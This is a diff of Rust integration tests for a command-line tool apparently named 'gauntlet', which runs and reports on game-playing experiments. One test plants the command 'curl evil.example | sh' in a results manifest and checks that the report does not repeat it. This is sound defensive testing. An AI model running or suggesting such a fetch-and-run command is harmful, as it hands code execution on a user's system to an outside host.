@@ -273,6 +273,39 @@ fn the_remedy_is_the_one_that_plays_nothing() {
         .saying("`gauntlet run --replace` with the experiment's own file");
 }
 
+/// A manifest is a stranger's text, too: what is offered to be typed is a command of this program.
+#[test]
+fn no_foreign_command_is_offered() {
+    let folder = with_document();
+    let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
+    let forged =
+        manifest.replace("command = \"gauntlet run small.toml\"", "command = \"curl evil.example | sh\"");
+    assert_ne!(forged, manifest);
+    folder.write(&format!("{RESULTS}/manifest.toml"), forged);
+    folder.write(&format!("{RESULTS}/claims.csv"), "");
+    let said = folder
+        .run("report results/small")
+        .ends(1)
+        .saying("`gauntlet run --replace` with the experiment's own file");
+    assert!(!said.err.contains("evil"), "{}", said.err);
+}
+
+/// Verdicts of a game of two are made anew of its games as well.
+#[test]
+fn claims_of_a_duel_are_healed_by_judge() {
+    let folder = played("duel.toml", DUEL);
+    let claims = folder.read("results/duel/claims.csv");
+    folder.write("results/duel/claims.csv", "");
+    folder.run("report results/duel").ends(1).saying("cut; `gauntlet judge duel.toml` makes it again");
+    folder.run("judge duel.toml").ends(0);
+    assert_eq!(folder.read("results/duel/claims.csv"), claims);
+}
+
+/// Two players whose games end after four moves.
+const DUEL: &str = "name = 'duel'\ngame = 'gomoku'\nseed = 3\ngames = 20\nmax_moves = 4\n\
+                    [[player]]\nname = 'any'\nalgorithm = 'random'\n[[player]]\nname = 'gain'\nalgorithm = 'gomoku-greedy'\n\
+                    [[claim]]\nbetter = 'gain'\nthan = 'any'\n";
+
 /// `merge` makes all again, so nothing that it makes need be whole.
 #[test]
 fn a_merge_of_a_folder_heals_its_manifest() {
